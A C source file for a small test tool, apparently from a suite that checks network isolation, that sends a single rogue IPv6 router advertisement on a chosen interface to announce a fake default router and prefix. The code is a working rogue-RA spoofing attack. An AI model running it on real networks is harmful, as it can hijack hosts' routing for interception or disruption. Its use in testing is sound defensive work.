/*
 * nbra IFACE: the hostile L2 test guest's rogue router advertisement (busybox
 * has nothing that sends one). One RA to all nodes (ff02::1) on IFACE, from
 * its link-local address, hop limit 255 as RFC 4861 wants, announcing a
 * default router and the prefix 2001:db8:bad::/64 for autoconfiguration. The
 * kernel fills in the ICMPv6 checksum. Exit 0 if it was sent.
 */
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

int
main(int argc, char *argv[])
{
	struct {
		struct nd_router_advert		ra;
		struct nd_opt_prefix_info	pi;
	} __attribute__((packed)) m;
	struct sockaddr_in6	 to;
	unsigned		 ifindex;
	int			 s, hops = 255;

	if (argc != 2 || (ifindex = if_nametoindex(argv[1])) == 0) {
		fprintf(stderr, "usage: nbra IFACE\n");
		return 2;
	}
	memset(&m, 0, sizeof(m));
	m.ra.nd_ra_type = ND_ROUTER_ADVERT;
	m.ra.nd_ra_curhoplimit = 64;
	m.ra.nd_ra_router_lifetime = htons(1800);
	m.pi.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	m.pi.nd_opt_pi_len = 4;
	m.pi.nd_opt_pi_prefix_len = 64;
	m.pi.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	m.pi.nd_opt_pi_valid_time = htonl(86400);
	m.pi.nd_opt_pi_preferred_time = htonl(14400);
	inet_pton(AF_INET6, "2001:db8:bad::", &m.pi.nd_opt_pi_prefix);
	memset(&to, 0, sizeof(to));
	to.sin6_family = AF_INET6;
	to.sin6_scope_id = ifindex;
	inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
	if ((s = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6)) == -1 ||
	    setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops)) == -1 ||
	    setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_IF, &ifindex, sizeof(ifindex)) == -1 ||
	    sendto(s, &m, sizeof(m), 0, (struct sockaddr *)&to, sizeof(to)) != sizeof(m)) {
		perror("nbra");
		return 1;
	}
	return 0;
}
